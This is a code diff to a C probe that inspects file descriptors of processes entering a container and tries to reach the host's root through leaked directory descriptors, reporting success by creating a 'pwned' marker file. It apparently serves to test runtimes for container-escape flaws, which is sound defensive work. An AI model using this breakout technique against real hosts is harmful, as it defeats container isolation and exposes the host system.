@@ -11,7 +11,9 @@
  *   seen PID CAPEFF fds: N=TARGET ...   a process caught before its execve
  *   denied PID ERRNO                    its fds could not be listed (once;
  *                                       it is looked at again until execve)
- *   dir PID N TARGET                    one of its fds is a directory
+ *   inside PID N TARGET                 one of its fds is a directory of the
+ *                                       container (its root, a workdir)
+ *   dir PID N TARGET                    one of its fds is a directory outside
  *   ESCAPED PID N                       MARKER/pwned was created through it
  */
 #define _GNU_SOURCE
@@ -54,13 +56,12 @@ static void cap_eff(int pid, char *out, size_t len)
   snprintf(out, len, "%.16s", p + 8);
 }
 
-/* From a directory fd of the host: the host's root, or -1. */
-static int host_root_from(int dirfd)
+/* The top of DIRFD's tree: `..` until it stops moving, which is our own
+ * root for a directory of the container, the host's root for one of the
+ * host. -1 on error. */
+static int top_of(int dirfd)
 {
-  int cur = openat(dirfd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC); /* a host /proc */
-  if (cur >= 0)
-    return cur;
-  cur = dup(dirfd);
+  int cur = dup(dirfd);
   for (int i = 0; i < 256 && cur >= 0; i++) {
     int up = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
     close(cur);
@@ -69,11 +70,15 @@ static int host_root_from(int dirfd)
   return cur;
 }
 
-static void try_escape(int pid, const char *fdname, const char *marker)
+/* A directory fd of PID: say whether it lies in the container (its own
+ * root, a workdir being entered) or outside, and from outside try to get
+ * to MARKER in the host's root: through 1/root if it is a host /proc, else
+ * by `..`. */
+static void try_escape(int pid, const char *fdname, const char *target, const char *marker)
 {
   char path[512];
-  struct stat st;
-  int dirfd, root, m, f;
+  struct stat st, top_st, own_root;
+  int dirfd, top, root, m, f;
 
   snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fdname);
   if (stat(path, &st) < 0 || !S_ISDIR(st.st_mode))
@@ -81,7 +86,22 @@ static void try_escape(int pid, const char *fdname, const char *marker)
   dirfd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
   if (dirfd < 0)
     return;
-  root = host_root_from(dirfd);
+  top = top_of(dirfd);
+  if (top >= 0 && fstat(top, &top_st) == 0 && stat("/", &own_root) == 0 && top_st.st_dev == own_root.st_dev &&
+      top_st.st_ino == own_root.st_ino) {
+    printf("inside %d %s %s\n", pid, fdname, target);
+    close(top);
+    close(dirfd);
+    return;
+  }
+  printf("dir %d %s %s\n", pid, fdname, target);
+  root = openat(dirfd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC); /* a host /proc */
+  if (root < 0) {
+    root = top;
+    top = -1;
+  }
+  if (top >= 0)
+    close(top);
   close(dirfd);
   if (root < 0)
     return;
@@ -128,10 +148,7 @@ static void inspect(int pid, const char *marker)
     target[n < 0 ? 0 : n] = '\0';
     if (o < sizeof line)
       o += (size_t) snprintf(line + o, sizeof line - o, " %s=%s", de->d_name, target);
-    struct stat st;
-    if (stat(path, &st) == 0 && S_ISDIR(st.st_mode))
-      printf("dir %d %s %s\n", pid, de->d_name, target);
-    try_escape(pid, de->d_name, marker);
+    try_escape(pid, de->d_name, target, marker);
   }
   closedir(d);
   printf("%s\n", line);
